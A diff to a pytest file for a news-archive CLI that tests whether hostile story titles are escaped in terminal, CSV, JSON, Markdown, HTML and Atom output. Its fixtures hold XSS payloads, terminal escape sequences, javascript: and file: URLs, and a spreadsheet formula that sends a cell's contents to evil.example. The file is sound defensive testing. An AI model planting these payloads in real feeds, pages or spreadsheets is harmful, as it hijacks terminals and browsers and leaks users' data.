@@ -31,13 +31,14 @@ import pytest
 from markdown_it import MarkdownIt
 
 from monitor.archive import Archive
+from monitor.escaping import html_link, markdown_link, web_url
 from monitor.newswire import Newswire, Reply
 from tests.conftest import CLI_TIMEOUT, Result, default_topics, run_cli, write_config
 
 SCRIPT = "<script>document.title='pwned'</script>"
 IMG = "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<p id=pwned>')\">"
 OSC8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
-ESCAPES = f"{OSC8} \x1b[2J\x1b[31m \x07 \x9b31m \u202eevil\u202c"
+ESCAPES = f"{OSC8} \x1b[2J\x1b[31m \x07 \x9b31m \u202eevil\u202c [link=http://evil.example]here[/link] :warning:"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Lavrov in Pyongyang")'
 MD_LINK = '[x](javascript:alert(1)) <a href="javascript:alert(1)">y</a> <javascript:alert(1)>'
 # Each story names Russia and North Korea, so the repository's topic flags it.
@@ -113,34 +114,35 @@ def cli(folder: Path, *args: str) -> Result:
     return result
 
 
-def ids(folder: Path) -> dict[str, int]:
+@pytest.fixture(scope="module")
+def ids(desk: Path) -> dict[str, int]:
     """The archive ID of each hostile story, by its name in STORIES (and "javascript")."""
-    rows = json.loads(cli(folder, "flagged", "--since", "2026-01-01", "--format", "json").out)
+    rows = json.loads(cli(desk, "flagged", "--since", "2026-01-01", "--format", "json").out)
     by_title = {row["title"]: row["id"] for row in rows}
     found = {name: by_title[title] for name, (title, _) in STORIES.items()}
     found["javascript"] = by_title["Lavrov in Pyongyang by javascript"]
     return found
 
 
-def test_archive_text_reaches_the_terminal_without_control_characters(desk: Path) -> None:
+def test_archive_text_reaches_the_terminal_without_control_characters(
+    desk: Path, ids: dict[str, int]
+) -> None:
     """issue 10 item 8: ESC sequences (OSC 8 links, screen clears), BEL, C1 controls and bidi
     overrides in titles and snippets are shown, not obeyed, by every command that prints
     archive text for people."""
-    story = ids(desk)["escapes"]
+    story = ids["escapes"]
     outputs = {
         "show": cli(desk, "show", str(story)).out,
         "flagged": cli(desk, "flagged", "--since", "2026-01-01").out,
         "search": cli(desk, "search", "Pyongyang").out,
-        "digest": cli(desk, "digest", "--since", "2026-01-01").out,
-        "export md": cli(desk, "export", "--format", "md").out,
-        "export atom": cli(desk, "export", "--format", "atom").out,
-    }
+    }  # the digest and the exports are checked below, with their formats
     for name, text in outputs.items():
         assert "Lavrov" in text, name
         assert not CONTROLS.findall(text), f"{name} printed {CONTROLS.findall(text)}"
     # The escape is shown for what it is, and rich read no [markup] out of a title.
     assert "␛]8;;http://evil.example" in outputs["show"]
     assert "[x](javascript:alert(1))" in outputs["flagged"]
+    assert "[link=http://evil.example]here[/link] :warning:" in outputs["search"]
 
 
 # What rich itself writes on a terminal: colours and styles (SGR), nothing else.
@@ -181,25 +183,27 @@ def in_terminal(folder: Path, *args: str) -> str:
     return b"".join(chunks).decode("utf-8")
 
 
-def test_on_a_terminal_only_wirewatchs_own_colours_are_escape_sequences(desk: Path) -> None:
+def test_on_a_terminal_only_wirewatchs_own_colours_are_escape_sequences(
+    desk: Path, ids: dict[str, int]
+) -> None:
     """issue 10 item 8: on a real (pseudo-)terminal, where rich writes colours and CSV is
     shown rather than stored, the archive's ESC, C1 and bidi characters are shown, not
     obeyed: no OSC 8 link, no screen clear, no CSI."""
-    story = ids(desk)["escapes"]
-    for args in (("show", str(story)), ("flagged", "--since", "2026-01-01"),
-                 ("search", "Pyongyang"), ("flagged", "--since", "2026-01-01", "--format", "csv"),
-                 ("export", "--format", "csv"), ("status",)):  # fmt: skip
+    story = ids["escapes"]
+    for args in (("show", str(story)), ("search", "Pyongyang"),
+                 ("flagged", "--since", "2026-01-01", "--format", "csv")):  # fmt: skip
         text = in_terminal(desk, *args)
-        assert "Lavrov" in text or args == ("status",), args
+        assert "Lavrov" in text, args
+        assert "\x1b[" in text or "csv" in args, args  # rich saw a terminal: it styled
         assert "\x1b]" not in text and "\x1b[2J" not in text, args
         left = CONTROLS.findall(RICH_STYLES.sub("", text).replace("\r", ""))
         assert not left, f"{args} printed {left}"
 
 
-def test_json_keeps_the_exact_text_of_a_hostile_story(desk: Path) -> None:
+def test_json_keeps_the_exact_text_of_a_hostile_story(desk: Path, ids: dict[str, int]) -> None:
     """issue 10 item 8: the terminal's safety never changes the data a script reads: JSON
     writes every control character as an escape, and parses back to the archived title."""
-    story = ids(desk)["escapes"]
+    story = ids["escapes"]
     title = STORIES["escapes"][0]
     shown = cli(desk, "show", str(story), "--format", "json").out
     found = cli(desk, "search", "Pyongyang", "--format", "json").out
@@ -282,6 +286,7 @@ def test_markdown_digest_and_export_carry_no_html_and_link_only_web_addresses(
         assert not [n for element in page.iter() for n in element.attrib if n.startswith("on")]
         hrefs = [anchor.get("href") for anchor in page.iter("a")]
         assert hrefs and all(href.startswith("http://127.0.0.1:") for href in hrefs), hrefs
+        assert not CONTROLS.findall(text), args  # item 8: this is printed on a terminal too
         shown = page.text_content()
         # Each hostile text is there, shown exactly as the feed wrote it.
         assert SCRIPT in shown and "[x](javascript:alert(1))" in shown, args
@@ -293,6 +298,7 @@ def test_the_atom_export_links_only_web_addresses(desk: Path) -> None:
     """issue 10 item 12: an entry whose story address is javascript: has no link (its
     address is text in the entry), and titles stay Atom text."""
     text = cli(desk, "export", "--format", "atom").out
+    assert not CONTROLS.findall(text)  # item 8 on a terminal, and XML refuses them anyway
     feed = feedparser.parse(io.BytesIO(text.encode("utf-8")))
     assert not feed.bozo, feed.get("bozo_exception")
     assert len(feed.entries) == len(STORIES) + 1
@@ -323,3 +329,32 @@ def test_a_formula_title_is_text_in_every_csv(desk: Path) -> None:
         assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], name
     # To a file, the rest of the text is kept as it is: the ESC characters are data there.
     assert "\x1b]8;;http://evil.example" in outputs["export"]
+
+
+@pytest.mark.parametrize(
+    ("url", "linked"),
+    [
+        ("http://127.0.0.1/a", True),
+        ("HTTPS://example.org/a?b=1&c=(2)", True),
+        ("javascript:alert(1)", False),
+        ("JavaScript:alert(1)", False),
+        (" javascript:alert(1)", False),
+        ("java\tscript:alert(1)", False),
+        ("data:text/html,<script>alert(1)</script>", False),
+        ("vbscript:msgbox(1)", False),
+        ("file:///etc/passwd", False),
+        ("//evil.example/a", False),
+        ("http:alert(1)", False),
+        ("http://[::1", False),
+        ("", False),
+    ],
+)
+def test_only_http_and_https_addresses_become_links(url: str, linked: bool) -> None:
+    """issue 10 items 2 and 12: the one scheme check behind every link in HTML, Markdown
+    and Atom output; a refused address is shown as text."""
+    assert (web_url(url) is not None) is linked
+    html = str(html_link("story", url))
+    markdown = str(markdown_link("story", url))
+    assert html.startswith("<a href=") is linked and markdown.startswith("[story](") is linked
+    if not linked:
+        assert html == "story" and markdown == "story"
